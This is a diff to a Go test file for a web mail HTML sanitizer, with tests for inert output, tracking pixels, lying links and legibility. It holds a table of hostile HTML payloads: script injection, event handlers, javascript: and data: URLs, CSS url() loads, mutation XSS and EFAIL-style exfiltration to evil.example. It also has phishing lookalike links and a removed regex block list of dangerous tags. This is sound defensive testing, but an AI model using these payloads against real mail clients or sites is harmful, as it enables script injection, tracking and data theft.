@@ -3,56 +3,70 @@ package web
 import (
 	"os"
 	"path/filepath"
-	"regexp"
 	"strings"
 	"testing"
 	"time"
 )
 
-func cleaned(t *testing.T, raw string) cleanMail {
-	t.Helper()
-	c, err := newMailCleaner().clean([]byte(raw), func(cid string) string {
-		if cid == "known@mail" {
+// testView shows one picture of the mail's own.
+var testView = mailView{
+	Own: func(ref string) string {
+		if ref == "known@mail" {
 			return "/attachments/abc"
 		}
 		return ""
-	})
+	},
+	Missing: func(host string) string { return "no picture of " + host },
+	Leads:   func(host string) string { return "leads to " + host },
+}
+
+func cleaned(t *testing.T, raw string) cleanMail {
+	t.Helper()
+	c, err := newMailCleaner().clean([]byte(raw), testView)
 	if err != nil {
 		t.Fatal(err)
 	}
 	return c
 }
 
-// harmful finds what must never be left of a mail: scripts, handlers, frames,
-// forms, anything that fetches, anything that looks like a style with a URL.
-var harmful = regexp.MustCompile(`(?i)<\s*(script|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|style|link|meta|base|video|audio|source|template|noscript|bgsound|layer)\b|\son[a-z]+\s*=|javascript:|vbscript:|expression\s*\(|url\s*\(|@import|-moz-binding|behavior\s*:|srcset|data:text|data:image/svg|position\s*:|\bid\s*=|\bclass\s*=`)
+// hostileHTML is a zoo of what mails try.
+var hostileHTML = map[string]string{
+	"script":            `<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+	"handlers":          `<img src="cid:known@mail" onerror=alert(1)><p onclick="x()">a</p><body onload=alert(1)><a href="#" onmouseover='x'>b</a>`,
+	"javascript":        `<a href="javascript:alert(1)">a</a><a href=" java&#x0A;script:alert(1)">b</a><a href="JaVaScRiPt:x">c</a><a href="vbscript:x">d</a>`,
+	"data":              `<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml;base64,PHN2Zz4="><iframe src="data:text/html,x"></iframe>`,
+	"styles":            `<p style="background:url(https://evil.example/a.png)">a</p><p style="width:expression(alert(1))">b</p><div style="position:fixed;top:0;left:0;width:100%;height:100%">c</div><style>@import 'https://evil.example/x.css'; p{background:url(//evil.example)}</style><p style="background-image:\75rl(x)">d</p><p style="behavior:url(x)">e</p>`,
+	"frames and forms":  `<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=q><button>go</button></form><object data=x></object><embed src=x>`,
+	"svg":               `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><script>x</script></mtext></math>`,
+	"mutation":          `<noscript><p title="</noscript><img src=x onerror=alert(1)>">a<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
+	"meta and base":     `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
+	"comments":          `<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>x</script>-->`,
+	"efail":             `<img src="https://evil.example/`,
+	"utf-7":             `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a</p>`,
+	"names":             `<p id="main" class="sheet">a</p><a name="x" id="live">b</a>`,
+	"nul":               "<scr\x00ipt>alert(1)</scr\x00ipt><p>a</p>",
+	"template syntax":   `{{.Secret}}<p>{{template "x"}}</p>`,
+	"srcset and poster": `<img srcset="https://evil.example/1.png 1x" src="cid:known@mail"><video poster="https://evil.example/p.png"><source src=x></video>`,
+	"deep nesting":      strings.Repeat("<div><b>", 3000) + "the words" + strings.Repeat("</b></div>", 3000),
+	"background":        `<table background="https://evil.example/b.png"><tr><td background=//evil.example/c.png style="background:#fff url('https://evil.example/d.png')">a</td></tr></table><body background=https://evil.example/e.png>`,
+	"style sheets":      `<style>@import "//evil.example/a.css"; @font-face{font-family:x;src:url(//evil.example/f)} p.a{background-image:url(//evil.example/a)} p.a:after{content:url(//evil.example/b)} .a{list-style:url(x);cursor:url(y);color:red} @media screen{.a{background:url(z)}}</style><p class=a>a</p>`,
+	"escaped styles":    `<p style="back\67round:u\72l(//evil.example)">a</p><p style="background:u/**/rl(//evil.example)">b</p><p style="color:red;}body{background:url(//evil.example)}">c</p>`,
+	"loaders":           `<link rel=preload href=//evil.example><link rel=dns-prefetch href=//evil.example><audio src=//evil.example autoplay><track src=//evil.example></audio><input type=image src=//evil.example><a ping=//evil.example href=https://a.example>a</a><img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example><blockquote cite=//evil.example>a</blockquote><img usemap=#m src=cid:known@mail>`,
+	"frameset":          `<frameset><frame src=//evil.example></frameset><portal src=//evil.example></portal><fencedframe></fencedframe>`,
+	"namespaces":        `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect><v:fill src="https://evil.example/x"/></v:rect><?xml-stylesheet href="//evil.example"?><![CDATA[<img src=//evil.example>]]>`,
+	"efail across":      `<img src="https://evil.example/?` + "\n-----BEGIN PGP MESSAGE-----\n" + `"><p>a</p>`,
+	"unclosed":          `<div><table><tr><td><a href="https://a.example">x<p title="`,
+	"closing the frame": `</div></body></html><script>x</script><p>after</p></table></td>`,
+	"data pages":        `<a href="data:text/html;base64,PHNjcmlwdD4=">a</a><img src="data:text/html,x"><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src=" data:image/png;base64,AAAA&#10;">`,
+	"private pictures":  `<img src="https://192.168.1.1/reboot"><img src="https://[::1]/"><img src="https://router/"><img src="https://printer.local/"><img src="https://a.example:8443/"><img src="https://2130706433/"><img src="https://user@a.example/"><img src="file:///etc/passwd"><img src="blob:x"><img src="http://0x7f.1/">`,
+}
 
 func TestMailHTMLIsInert(t *testing.T) {
-	for name, raw := range map[string]string{
-		"script":            `<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-		"handlers":          `<img src="cid:known@mail" onerror=alert(1)><p onclick="x()">a</p><body onload=alert(1)><a href="#" onmouseover='x'>b</a>`,
-		"javascript":        `<a href="javascript:alert(1)">a</a><a href=" java&#x0A;script:alert(1)">b</a><a href="JaVaScRiPt:x">c</a><a href="vbscript:x">d</a>`,
-		"data":              `<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml;base64,PHN2Zz4="><iframe src="data:text/html,x"></iframe>`,
-		"styles":            `<p style="background:url(https://evil.example/a.png)">a</p><p style="width:expression(alert(1))">b</p><div style="position:fixed;top:0;left:0;width:100%;height:100%">c</div><style>@import 'https://evil.example/x.css'; p{background:url(//evil.example)}</style><p style="background-image:\75rl(x)">d</p><p style="behavior:url(x)">e</p>`,
-		"frames and forms":  `<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=q><button>go</button></form><object data=x></object><embed src=x>`,
-		"svg":               `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><script>x</script></mtext></math>`,
-		"mutation":          `<noscript><p title="</noscript><img src=x onerror=alert(1)>">a<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
-		"meta and base":     `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
-		"comments":          `<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>x</script>-->`,
-		"efail":             `<img src="https://evil.example/`,
-		"utf-7":             `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a</p>`,
-		"names":             `<p id="main" class="sheet">a</p><a name="x" id="live">b</a>`,
-		"nul":               "<scr\x00ipt>alert(1)</scr\x00ipt><p>a</p>",
-		"template syntax":   `{{.Secret}}<p>{{template "x"}}</p>`,
-		"srcset and poster": `<img srcset="https://evil.example/1.png 1x" src="cid:known@mail"><video poster="https://evil.example/p.png"><source src=x></video>`,
-	} {
+	for name, raw := range hostileHTML {
 		t.Run(name, func(t *testing.T) {
 			c := cleaned(t, raw)
-			if m := harmful.FindString(c.HTML); m != "" {
-				t.Fatalf("%q is left in %q", m, c.HTML)
-			}
-			if strings.Contains(c.HTML, "evil.example") && strings.Contains(c.HTML, "<img") {
-				t.Fatalf("a remote address is left in %q", c.HTML)
+			if err := notInert(c.HTML, false); err != nil {
+				t.Fatalf("%v in %q", err, c.HTML)
 			}
 		})
 	}
@@ -68,12 +82,12 @@ func TestMailHTMLKeepsWhatIsHarmless(t *testing.T) {
 }
 
 func TestMailPictures(t *testing.T) {
-	c := cleaned(t, `<img src="cid:known@mail" alt="a"><img src="cid:other@mail"><img src="https://evil.example/t.gif" width="1"><img src="//evil.example/t.gif"><img src="/attachments/other"><img src="data:image/png;base64,iVBORw0KGgo=">`)
-	if strings.Count(c.HTML, "<img") != 2 || !strings.Contains(c.HTML, `src="/attachments/abc"`) || !strings.Contains(c.HTML, "data:image/png") {
+	c := cleaned(t, `<img src="cid:known@mail" alt="a"><img src="cid:other@mail"><img src="https://evil.example/t.gif" width="1"><img src="//10.0.0.1/t.gif"><img src="/attachments/other" height="1"><img src="data:image/png;base64,iVBORw0KGgo=">`)
+	if strings.Count(c.HTML, "<img") != 2 || strings.Count(c.HTML, "hd-pic") != 2 || !strings.Contains(c.HTML, `src="/attachments/abc"`) || !strings.Contains(c.HTML, "data:image/png") {
 		t.Fatalf("kept %s", c.HTML)
 	}
-	if c.Blocked != 4 {
-		t.Fatalf("%d pictures are said to be blocked, want 4", c.Blocked)
+	if c.Blocked != 0 || c.Trackers != 1 {
+		t.Fatalf("%d pictures are said to be blocked and %d to be trackers", c.Blocked, c.Trackers)
 	}
 }
 
@@ -107,25 +121,10 @@ func TestCorpusHTMLIsInert(t *testing.T) {
 			t.Fatal(err)
 		}
 		c := cleaned(t, string(b))
-		for _, tag := range regexp.MustCompile(`<[^>]*>`).FindAllString(c.HTML, -1) {
-			if m := harmful.FindString(strings.ReplaceAll(tag, "title=", "")); m != "" && !strings.HasPrefix(tag, "<a ") {
-				t.Errorf("%s: %q is left in %q", filepath.Base(f), m, tag)
-			}
+		if err := notInert(c.HTML, false); err != nil {
+			t.Errorf("%s: %v", filepath.Base(f), err)
 		}
 	}
-}
-
-func FuzzMailHTML(f *testing.F) {
-	f.Add(`<p style="color:red">a<img src="cid:known@mail"></p>`)
-	f.Add(`<a href="javascript:x">a</a><svg><script>`)
-	f.Fuzz(func(t *testing.T, raw string) {
-		c := cleaned(t, raw)
-		for _, tag := range regexp.MustCompile(`<[a-zA-Z][^>]*>`).FindAllString(c.HTML, -1) {
-			if m := regexp.MustCompile(`(?i)^<\s*(script|iframe|object|embed|form|svg|style|link|meta|base)\b`).FindString(tag); m != "" {
-				t.Fatalf("%q is left of %q", tag, raw)
-			}
-		}
-	})
 }
 
 // TestMailHTMLTakesBoundedTime: what is made to be read slowly is not, at the
@@ -176,5 +175,89 @@ func TestLinkify(t *testing.T) {
 		if got := string(linkify(text)); got != want {
 			t.Errorf("linkify(%q) = %s, want %s", text, got, want)
 		}
+	}
+}
+
+func TestMailLies(t *testing.T) {
+	const safe = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.bank.example%2Flogin&data=05&sdata=x"
+	for _, c := range []struct {
+		words, href string
+		lies        bool
+	}{
+		{"https://bank.example/login", "https://evil.example/", true},
+		{"bank.example", "https://evil.example/", true},
+		{"www.bank.example", "https://bank.example.evil.example/", true},
+		{"https://corp.example/login", "https://corp.example@evil.example/", true},
+		{"bank.example", "https://bаnk.example/", true}, // a Cyrillic а
+		{"it@corp.example", "mailto:thief@evil.example", true},
+		{"bank.example", "https://www.bank.example/", false},
+		{"https://login.bank.example", "https://bank.example/", false},
+		{"bank.example", "https://login.bank.example/", false},
+		{"www.bank.example", safe, false},
+		{"www.other.example", safe, true},
+		{"bank.example", "https://urldefense.com/v3/__https://bank.example/x__;!!abc", false},
+		{"bank.example", "https://urldefense.proofpoint.com/v2/url?u=https-3A__bank.example_x&d=D", false},
+		{"it@corp.example", "mailto:it@corp.example?subject=x", false},
+		{"it@corp.example", "https://corp.example/contact", false},
+		{"click here", "https://evil.example/", false},
+		{"Version 2.0 is out", "https://a.example/", false},
+		{"", "https://a.example/", false},
+	} {
+		target := linkTarget(c.href)
+		if address, _, ok := strings.Cut(target, "?"); ok {
+			target = address
+		}
+		if got := lies(c.words, target); got != c.lies {
+			t.Errorf("%q that leads to %q (%s): %v", c.words, c.href, target, got)
+		}
+	}
+}
+
+func TestMailKeepsLegible(t *testing.T) {
+	for name, x := range map[string]struct{ raw, want, not string }{
+		"white on our paper":     {`<p style="color:#fff">x</p>`, "color: #1d2126", ""},
+		"a font's white":         {`<font color="white">x</font>`, "color: #1d2126", ""},
+		"a dark body":            {`<body bgcolor="#111111" text="#eeeeee"><p>x</p>`, "background-color: #111111", "#1d2126"},
+		"a dark body, no ink":    {`<body style="background:#111"><p>x</p>`, "color: #ffffff", ""},
+		"a link in the dark":     {`<td bgcolor="#10182c"><a href="https://a.example">x</a></td>`, `noreferrer nofollow" style="color: #ffffff"`, ""},
+		"black in a dark cell":   {`<table><tr><td bgcolor="navy"><span style="color:black">x</span></td></tr></table>`, "color: black; color: #ffffff", ""},
+		"white on a dark cell":   {`<table><tr><td bgcolor="navy"><span style="color:white">x</span></td></tr></table>`, "color: white", "color: white;"},
+		"grey is a choice":       {`<p style="color:#999">x</p>`, "color: #999", "#1d2126"},
+		"a class from a sheet":   {`<style>.x{background:#000} .y{color:#fff}</style><div class="x"><p class=y>x</p></div>`, "background-color: #000", "#1d2126"},
+		"a picture behind white": {`<td style="background:url(https://a.example/x.png);color:#ffffff">x</td>`, "color: #1d2126", ""},
+		"Word's paragraphs":      {`<style><!-- p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm; font-size:11.0pt;} --></style><p class=MsoNormal>x<o:p></o:p></p>`, "margin: 0cm", ""},
+		"own words before":       {`<style>p{color:red}</style><p style="color:blue">x</p>`, "color: blue", ""},
+	} {
+		c := cleaned(t, x.raw)
+		if !strings.Contains(c.HTML, x.want) || x.not != "" && strings.Contains(c.HTML, x.not) {
+			t.Errorf("%s: %s", name, c.HTML)
+		}
+	}
+}
+
+func TestDeepMailKeepsItsWords(t *testing.T) {
+	c := cleaned(t, strings.Repeat("<div><b>", 3000)+"the words"+strings.Repeat("</b></div>", 3000)+"<p>the end</p>")
+	if !strings.Contains(c.HTML, "the words") || !strings.HasSuffix(c.HTML, "<p>the end</p>") || strings.Count(c.HTML, "<div>") > maxDepth {
+		t.Errorf("%.100s … %.100s", c.HTML, c.HTML[len(c.HTML)-100:])
+	}
+	if c := cleaned(t, strings.Repeat("<p>a<li>b<td>c", 2000)); strings.Count(c.HTML, "<p>") != 2000 {
+		t.Errorf("%d of 2000 paragraphs are left", strings.Count(c.HTML, "<p>"))
+	}
+}
+
+func TestMailPicturesOnRequest(t *testing.T) {
+	const raw = `<img src="http://cdn.shop.example/a.png" alt="Sale"><img src="//cdn.shop.example/b.png"><img src="https://t.shop.example/o.gif" width="1" height="1"><img src="https://t.shop.example/o.gif" style="display:none"><img src="https://10.0.0.1/x.png">`
+	c := cleaned(t, raw)
+	if c.Blocked != 2 || c.Trackers != 2 || strings.Contains(c.HTML, "<img") || !strings.Contains(c.HTML, "Sale · no picture of cdn.shop.example") {
+		t.Errorf("%+v", c)
+	}
+	v := testView
+	v.Pictures = true
+	c, err := newMailCleaner().clean([]byte(raw), v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Shown != 2 || c.Trackers != 2 || c.Blocked != 0 || strings.Count(c.HTML, "<img") != 2 || !strings.Contains(c.HTML, `src="https://cdn.shop.example/a.png"`) || strings.Count(c.HTML, `referrerpolicy="no-referrer"`) != 2 {
+		t.Errorf("%+v", c)
 	}
 }
